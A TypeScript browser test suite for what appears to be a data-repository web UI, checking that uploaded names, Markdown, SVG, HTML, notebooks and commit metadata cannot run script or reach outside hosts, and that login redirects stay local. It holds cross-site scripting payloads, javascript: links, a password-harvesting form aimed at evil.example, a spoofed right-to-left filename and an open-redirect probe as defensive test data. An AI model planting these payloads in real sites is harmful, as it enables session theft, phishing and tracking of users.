/** What others write is shown in an administrator's browser: names, Markdown, pictures, messages, metadata. None of it acts. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { needsChromium } from '@srv/test-servers/chromium';
import { eventually } from '@srv/test-servers/eventually';
import { setStage } from './support/page.js';
import type { Page } from '@srv/test-servers/chromium';
import type { Stage } from './support/page.js';

const attack = '<img src=x onerror="window.owned=1"><script>window.owned=1</script>';
const names = [
  '<img src=x onerror=window.owned=1>',
  'a"onmouseover="window.owned=1',
  'invoice\u202Efdp.exe',
  'a#b?c%2F&d=e+f',
  'double//slash',
  "it's {{here}}",
  'ünïcode 日本/文件.txt',
];

describe('hostile content', { skip: needsChromium }, () => {
  let stage: Stage;
  let page: Page;
  const asked: string[] = [];
  before(async () => {
    stage = await setStage();
    ({ page } = stage);
    page.on('requestfinished', request => asked.push(request.url()));
    page.on('requestfailed', request => {
      // Stopped by the policy before it left.
      if (request.failure()?.errorText !== 'csp') asked.push(request.url());
    });
    page.on('dialog', dialog => {
      asked.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await stage.client.createRepository({ body: { name: 'lakes', storage_namespace: 'local://lakes' } });
    for (const name of names) await put(name, attack);
    await put('page.html', `<!doctype html><title>t</title>${attack}`);
    const drawing =
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.owned=1"><script>window.owned=1</script></svg>';
    await put('drawing.svg', drawing, { 'content-type': 'image/svg+xml' });
    await put('untyped.svg', drawing);
    await put(
      'README.md',
      `# Title\n\n${attack}\n\n<a href="javascript:window.owned=1">html link</a> [link](javascript:window.owned=1) [data](data:text/html,x)\n\n![out](https://evil.example/pixel.png)\n\n<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>\n\n<div style="position:fixed;inset:0">over</div>`,
    );
    await put(
      'n.ipynb',
      JSON.stringify({
        cells: [
          { cell_type: 'markdown', source: attack },
          {
            cell_type: 'code',
            source: 'x',
            outputs: [
              {
                output_type: 'display_data',
                data: { 'text/html': `<script>parent.owned=1;top.owned=1</script><img src="https://evil.example/x.png"><p>shown</p>` },
              },
            ],
          },
        ],
      }),
    );
    await stage.client.commit({
      repository: 'lakes',
      branch: 'main',
      body: {
        message: `${attack}\nsecond`,
        metadata: {
          [`${attack}`]: attack,
          '::lakefs::Bad::url[url:ui]': 'javascript:window.owned=1',
          '::lakefs::Good::url[url:ui]': 'https://good.example/run',
        },
      },
    });
  });
  after(() => stage?.close());

  const put = (path: string, body: string, headers: Readonly<Record<string, string>> = {}) =>
    stage.client.uploadObject({ repository: 'lakes', branch: 'main', path, body }, { headers });
  const unharmed = async (): Promise<void> => {
    await stage.settled();
    assert.equal(await page.evaluate('window.owned'), undefined);
    assert.deepEqual(
      asked.filter(url => !url.startsWith(stage.srv.url) && !url.startsWith('blob:') && !url.startsWith('data:')),
      [],
    );
  };

  it('names are text, and what cannot be seen in them is spelled out', async () => {
    await stage.open('repositories/lakes/objects?ref=main');
    await page.getByRole('link', { name: 'invoice\\u{202e}fdp.exe' }).waitFor();
    for (const name of ['<img src=x onerror=window.owned=1>', "it's {{here}}", 'a#b?c%2F&d=e+f']) {
      await stage.open('repositories/lakes/objects?ref=main');
      await page.getByRole('link', { name, exact: true }).click();
      await page.getByText('window.owned=1').first().waitFor();
      await page.getByRole('button', { name: 'Object Info' }).click();
      await page.getByRole('dialog').getByText(name, { exact: true }).waitFor();
      await page.getByRole('button', { name: 'Close' }).click();
    }
    await stage.open('repositories/lakes/objects?ref=main');
    await page.getByRole('link', { name: 'double/' }).click();
    await page.getByRole('link', { name: '/', exact: true }).last().click();
    await page.getByRole('link', { name: 'slash' }).waitFor();
    await unharmed();
  });

  it('Markdown draws text, and leads nowhere bad', async () => {
    await stage.open('repositories/lakes/object?ref=main&path=README.md');
    await page.getByRole('heading', { name: 'Title' }).waitFor();
    assert.equal(
      await page
        .locator('.prose a[href^="javascript"], .prose iframe, .prose form, .prose style, .prose script, .prose [style], .prose img')
        .count(),
      0,
    );
    await page.getByText('html link').click();
    await page.getByText('link', { exact: true }).click();
    const outside = page.getByRole('link', { name: 'out (evil.example)' });
    await eventually(() => outside.getAttribute('rel'), 'noopener noreferrer nofollow');
    assert.equal(await page.locator('main').isVisible(), true);
    // Its picture is an object that does not exist.
    stage.complaintsAbout(/404/);
    await stage.check('hostile-markdown');
    await unharmed();
  });

  it('pictures, pages and notebooks run nothing', async () => {
    await stage.open('repositories/lakes/object?ref=main&path=drawing.svg');
    await page.locator('.picture img').evaluate(image => (image as unknown as { decode(): Promise<void> }).decode());
    await stage.open('repositories/lakes/object?ref=main&path=untyped.svg');
    await page.getByRole('heading', { name: 'This picture cannot be shown' }).waitFor();
    await stage.open('repositories/lakes/object?ref=main&path=page.html');
    await page.getByText('<!doctype html>').waitFor();
    await stage.open('repositories/lakes/object?ref=main&path=n.ipynb');
    const frame = page.locator('iframe');
    await eventually(() => frame.getAttribute('sandbox'), '');
    await page.frameLocator('iframe').getByText('shown').waitFor();
    // The policy stops what the output asks for, and says so; that is what is wanted.
    stage.complaintsAbout(/404|evil\.example|sandboxed|Content Security Policy/);
    await stage.check('notebook');
    await unharmed();
  });

  it('messages and metadata of commits are text; their links are shown with their host', async () => {
    await stage.open('repositories/lakes/commits?ref=main');
    await page.getByRole('link', { name: attack, exact: true }).click();
    await page.getByRole('link', { name: 'Open Good UI (good.example)' }).waitFor();
    assert.equal(await page.getByRole('link', { name: /Bad/ }).count(), 0);
    await page.getByText('javascript:window.owned=1').waitFor();
    await stage.check('hostile-commit');
    await unharmed();
  });

  it('an object opened by its address runs nothing, and sends no request', async () => {
    for (const path of ['page.html', 'drawing.svg']) {
      const { headers } = await fetch(`${stage.srv.url}/api/v1/repositories/lakes/refs/main/objects?path=${path}`, {
        headers: { authorization: `Basic ${btoa(`${stage.srv.key.accessKeyId}:${stage.srv.key.secretAccessKey}`)}` },
      });
      const policy = headers.get('content-security-policy') ?? '';
      for (const part of ["default-src 'none'", 'sandbox', "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"])
        assert.ok(policy.split('; ').includes(part), `${part} in ${policy}`);
      assert.equal(headers.get('x-content-type-options'), 'nosniff');
    }
  });

  it('a login leads back to this server only', async () => {
    const context = await stage.browser.newContext();
    const fresh = await context.newPage();
    await fresh.goto(`${stage.srv.url}/auth/login?next=${encodeURIComponent('https://evil.example/repositories/lakes/branches')}`);
    await fresh.getByPlaceholder('Access Key ID').fill(stage.srv.key.accessKeyId);
    await fresh.getByPlaceholder('Secret Access Key').fill('wrong');
    await fresh.getByRole('button', { name: 'Login' }).click();
    await fresh.getByText("The credentials don't match.").waitFor();
    await fresh.getByPlaceholder('Secret Access Key').fill(stage.srv.key.secretAccessKey);
    await fresh.getByRole('button', { name: 'Login' }).click();
    await fresh.getByRole('button', { name: 'Create Branch' }).waitFor();
    await eventually(() => new URL(fresh.url()).origin, stage.srv.url);
    await context.close();
  });
});
